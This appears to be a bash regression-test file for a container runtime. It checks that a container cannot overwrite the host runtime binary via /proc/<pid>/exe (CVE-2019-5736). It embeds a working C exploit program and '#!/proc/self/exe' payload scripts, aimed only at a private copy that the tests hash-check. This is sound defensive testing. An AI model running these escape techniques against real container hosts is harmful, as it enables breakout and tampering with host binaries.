# shellcheck shell=bash
# Host safety: a container must not be able to overwrite the runtime binary
# through /proc/<pid>/exe (CVE-2019-5736 class).

# attacker.c: scans /proc for processes whose exe is not its own, opens each
# /proc/PID/exe read-only (allowed while the binary runs), then keeps trying
# to reopen the fd for writing (ETXTBSY while the binary is being executed);
# once it can, it appends to it. Progress and result go to argv[1].
ATTACKER_C='
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
	FILE *r = fopen(argc > 1 ? argv[1] : "/dev/stdout", "w");
	int secs = argc > 2 ? atoi(argv[2]) : 10, fds[256], n = 0, i;
	char self[32], path[512], target[512];
	if (!r) return 2;
	setvbuf(r, NULL, _IONBF, 0);
	snprintf(self, sizeof self, "%d", (int)getpid());
	/* argv[3] == "loop": keep scanning until some exe could be opened */
	int loop = argc > 3 && !strcmp(argv[3], "loop"), fails = 0;
	struct timespec t0, now;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) && n < 256) {
			if (e->d_name[0] < 0x31 || e->d_name[0] > 0x39 || !strcmp(e->d_name, self)) continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			ssize_t l = readlink(path, target, sizeof target - 1);
			target[l > 0 ? l : 0] = 0;
			if (loop && (l <= 0 || strstr(target, "busybox") || strstr(target, "attacker"))) continue;
			int fd = open(path, O_RDONLY);
			if (fd < 0) {
				if (fails++ < 20) fprintf(r, "open-failed %s %s: %s\n", e->d_name, target, strerror(errno));
				continue;
			}
			fprintf(r, "opened %s %s\n", e->d_name, target);
			fds[n++] = fd;
		}
		if (d) closedir(d);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (loop && n == 0 && now.tv_sec - t0.tv_sec < secs);
	fprintf(r, "scan-done %d\n", n);
	struct timespec t = {0, 10 * 1000 * 1000};
	for (int round = 0; round < secs * 100; round++) {
		int busy = 0;
		for (i = 0; i < n; i++) {
			if (fds[i] < 0) continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
			int w = open(path, O_WRONLY | O_APPEND);
			if (w < 0 && errno == ETXTBSY) { busy++; continue; }
			if (w < 0) { fprintf(r, "write-open-denied fd%d: %s\n", fds[i], strerror(errno)); fds[i] = -1; continue; }
			if (write(w, "PWNED-BY-CONTAINER\n", 19) == 19) { fprintf(r, "result: WROTE fd%d\n", fds[i]); return 0; }
			fprintf(r, "write-failed fd%d: %s\n", fds[i], strerror(errno));
			close(w);
			fds[i] = -1;
		}
		if (!busy && round > 0) break;
		nanosleep(&t, NULL);
	}
	fprintf(r, "result: safe\n");
	pause();
	return 0;
}'

# build_attacker ROOTFS [NAME SOURCE]: a busybox rootfs with SOURCE (default
# ATTACKER_C) built static at /NAME (default /attacker); skips the test
# without a C compiler.
build_attacker() {
	local cc name=${2:-attacker} src=${3:-$ATTACKER_C}
	cc=$(command -v cc || command -v gcc || true)
	[ -n "$cc" ] || skip "no C compiler for the attacker program"
	make_rootfs "$1"
	printf '%s\n' "$src" >"$TD/$name.c"
	"$cc" -static -O2 -o "$1/$name" "$TD/$name.c" 2>"$TD/cc.err" ||
		skip "cannot build a static attacker: $(head -c 200 "$TD/cc.err")"
}

# private_runtime: the runtime under test copied to RT_COPY (its sha256 in
# RT_SUM), so that an unprotected runtime gets THAT file overwritten, never
# the real binary. The caller then sets KILN=$RT_COPY.
private_runtime() {
	mkdir -p "$TD/rt"
	RT_COPY=$TD/rt/$(basename "$KILN")
	cp "$KILN" "$RT_COPY"
	RT_SUM=$(sha256sum <"$RT_COPY")
}

# exe_attack CAPS: the attack, with B's capability set CAPS
exe_attack() {
	local caps=$1 copy sum a b ba bb pid rootfs
	rootfs=$TD/rootfs
	build_attacker "$rootfs"
	private_runtime
	copy=$RT_COPY sum=$RT_SUM
	KILN=$copy

	# A: created, so its init (the runtime binary) waits in the container's
	# pid namespace until start.
	a=$(new_id)
	ba=$(C_ROOTFS=$rootfs mkb "$a" sleep 30)
	cap rt create --bundle "$ba" "$a"
	expect_ok "create A"
	pid=$(pid_of "$a")
	# B: joins A's pid namespace (sees A's init as pid 1).
	b=$(new_id)
	bb=$(C_ROOTFS=$rootfs C_CAPS="$caps" \
		C_NS="{\"type\":\"pid\",\"path\":\"/proc/$pid/ns/pid\"},{\"type\":\"mount\"},{\"type\":\"ipc\"},{\"type\":\"uts\"}" \
		mkb "$b" /attacker /mnt/result 5)
	cap rt run -d --bundle "$bb" "$b"
	expect_ok "run -d B (joining A's pid namespace)"
	_scanned() { grep -q '^scan-done' "$bb/share/result" 2>/dev/null; }
	poll 30 _scanned || fail "attacker did not finish scanning: $(cat "$bb/share/result" 2>/dev/null)"
	# Release A's init: it execs the payload, the runtime binary is no longer
	# busy, and an attacker holding a reference to it could now write.
	cap rt start "$a"
	expect_ok "start A"
	_result() { grep -q '^result:' "$bb/share/result" 2>/dev/null; }
	poll 15 _result || fail "attacker gave no result: $(cat "$bb/share/result")"
	echo "attacker log:" >&2
	cat "$bb/share/result" >&2
	[ "$(sha256sum <"$copy")" = "$sum" ] ||
		fail "runtime binary overwritten from inside the container: $(tr '\n' ';' <"$bb/share/result")"
	grep -q '^result: safe' "$bb/share/result" || fail "attacker: $(tr '\n' ';' <"$bb/share/result")"
	cap rt delete -f "$b"
	cap rt delete -f "$a"
	assert_clean "$a"
	assert_clean "$b"
}

test_proc_exe_overwrite() {
	exe_attack "$DEFAULT_CAPS"
}

# With CAP_SYS_PTRACE (docker run --cap-add SYS_PTRACE) /proc/1/exe is
# reachable even when the init is not dumpable: only an init whose exe is
# not the host file (runc: a sealed memfd copy) is safe.
test_proc_exe_overwrite_sys_ptrace() {
	exe_attack "$DEFAULT_CAPS,\"CAP_SYS_PTRACE\",\"CAP_DAC_OVERRIDE\""
}

# CVE-2019-5736 itself: "exec" of a "#!/proc/self/exe" script makes the
# runtime binary run inside the container (dumpable again after execve); an
# attacker process in the container grabs /proc/PID/exe and writes to it once
# the process is gone. Default capabilities.
test_proc_exe_overwrite_exec() {
	local copy sum id b rootfs i
	rootfs=$TD/rootfs
	build_attacker "$rootfs"
	printf '#!/proc/self/exe\n' >"$rootfs/evil"
	chmod 755 "$rootfs/evil"
	private_runtime
	copy=$RT_COPY sum=$RT_SUM
	KILN=$copy
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs mkb "$id" /attacker /mnt/result 8 loop)
	cap rt run -d --bundle "$b" "$id"
	expect_ok "run -d attacker"
	_result() { grep -q '^result:' "$b/share/result" 2>/dev/null; }
	_opened() { grep -q '^scan-done' "$b/share/result" 2>/dev/null; }
	cap rt exec "$id" true
	# kiln's exec comes with the engine-surface issue; until then this attack
	# route does not exist and the test cannot run.
	[[ $ERR == *"not implemented yet"* ]] && skip "exec is not implemented yet"
	for i in $(seq 30); do
		cap rt exec "$id" /evil
		# RC: the runtime binary run as "RUNTIME /evil" (3, unknown command);
		# or the exec refused (runc 1.1: the interpreter /proc/self/exe is a
		# memfd it cannot exec: "exec /evil: no such file or directory")
		[[ $ERR != *"not implemented"* ]] || fail "$(ctx "exec does not work")"
		[ "$i" -ge 3 ] && [ "$RC" != 0 ] && [ "$RC" != 3 ] && [ "$RC" != 137 ] && break
		_opened && break
	done
	echo "exec attempts: $i (last rc $RC: $OUT $ERR)" >&2
	poll 15 _result || fail "attacker gave no result: $(tr '\n' ';' <"$b/share/result" 2>/dev/null)"
	echo "attacker log:" >&2
	cat "$b/share/result" >&2
	[ "$(sha256sum <"$copy")" = "$sum" ] ||
		fail "runtime binary overwritten via exec of #!/proc/self/exe: $(tr '\n' ';' <"$b/share/result")"
	cap rt delete -f "$id"
	assert_clean "$id"
}

test_proc_self_exe_as_payload() {
	# args ["/proc/self/exe"] or a "#!/proc/self/exe" script make the payload
	# execute whatever the runtime's init was; it must not get the host binary
	# writable. The payload then is the runtime itself: let it try to append
	# to its own /proc/self/exe via a script interpreter trick.
	local copy sum id b rootfs
	rootfs=$TD/rootfs
	make_rootfs "$rootfs"
	private_runtime
	copy=$RT_COPY sum=$RT_SUM
	KILN=$copy
	printf '#!/proc/self/exe\n' >"$rootfs/evil"
	chmod 755 "$rootfs/evil"
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs mkb "$id" /evil)
	cap rt run --bundle "$b" "$id"
	# whatever it did (it is the runtime binary run with an odd argv) the copy is intact
	[ "$(sha256sum <"$copy")" = "$sum" ] || fail "runtime binary modified by a #!/proc/self/exe payload"
	assert_clean "$id"
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs mkb "$id" /proc/self/exe)
	cap rt run --bundle "$b" "$id"
	[ "$(sha256sum <"$copy")" = "$sum" ] || fail "runtime binary modified by a /proc/self/exe payload"
	assert_clean "$id"
	# a shell in the container cannot open /proc/1/exe of a created init for writing
	id=$(new_id)
	b=$(C_ROOTFS=$rootfs mkb "$id" sh -c 'echo x >> /proc/self/exe; echo rc=$?')
	cap rt run --bundle "$b" "$id"
	[ "$(sha256sum <"$copy")" = "$sum" ] || fail "runtime binary modified"
	[ "$(sha256sum <"$rootfs/bin/busybox")" = "$(sha256sum <"$(e2e_busybox)")" ] || fail "busybox modified via /proc/self/exe (read-only rootfs?)"
}
